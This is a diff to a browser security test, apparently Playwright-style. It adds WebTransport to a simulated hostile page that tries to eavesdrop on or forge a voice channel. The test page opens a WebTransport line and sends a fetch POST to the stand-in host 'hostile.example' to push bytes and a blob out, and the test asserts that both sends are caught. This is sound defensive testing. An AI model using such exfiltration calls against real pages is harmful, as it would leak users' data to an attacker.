@@ -48,7 +48,8 @@ const hostile = `<!doctype html><meta charset="utf-8"><title>hostile</title><scr
     [RTCPeerConnection.prototype, 'getStats', 'getConfiguration', 'getSenders', 'getTransceivers', 'localDescription', 'connectionState'],
     [RTCStatsReport.prototype, 'forEach', 'get'], [WebSocket.prototype, 'url', 'readyState'], [RTCDataChannel.prototype, 'label', 'readyState'],
     [MediaStream.prototype, 'getAudioTracks', 'getTracks'], [MediaStreamTrack.prototype, 'readyState', 'kind'],
-    [Error, 'captureStackTrace'],
+    [WebTransport.prototype, 'datagrams'], [WebTransportDatagramDuplexStream.prototype, 'writable'],
+    [WritableStream.prototype, 'getWriter'], [Error, 'captureStackTrace'],
   ];
   // What is looked up where a property is missing, and what is written where a setter stands on the way.
   const trap = (target, name, value) => Object.defineProperty(target, name, {
@@ -117,6 +118,7 @@ test('a page cannot forge a voice visit through the channel, nor listen in on it
       fetch,
       WebSocket: Socket,
       RTCPeerConnection: Connection,
+      WebTransport: Transport,
       Reflect: { construct },
     } = window;
     const nothing: unknown[] = [];
@@ -130,9 +132,15 @@ test('a page cannot forge a voice visit through the channel, nor listen in on it
     try {
       channel.send('too early');
     } catch {}
+    // Nobody is there, so that the browser holds what is written.
+    const line = new Transport('https://hostile.example:4433/line');
+    const writer = line.datagrams.writable.getWriter();
+    const wrote = writer.write(bytes);
+    const stream = line.createUnidirectionalStream();
     fetch('https://hostile.example/upload', { method: 'POST', body: blob });
     await new Promise((resolve) => setTimeout(resolve, 3000));
     disarm();
+    for (const ended of [line.ready, line.closed, writer.closed, wrote, stream]) ended.catch(() => undefined);
     void [send, construct, nothing, address, second];
     return caught;
   });
@@ -141,6 +149,8 @@ test('a page cannot forge a voice visit through the channel, nor listen in on it
     { as: 'text', text: 'really sent' },
     { as: 'bytes', base64: 'AQID' },
   ]);
+  const written = await heard.until('web-transport-message', (all) => all.length > 0);
+  expect(written.map(({ data }) => data)).toEqual([{ as: 'bytes', base64: 'AQID' }]);
   expect(await heard.until('body', (all) => all.length > 0)).toMatchObject([
     { url: 'https://hostile.example/upload', base64: Buffer.from('of a blob').toString('base64') },
   ]);
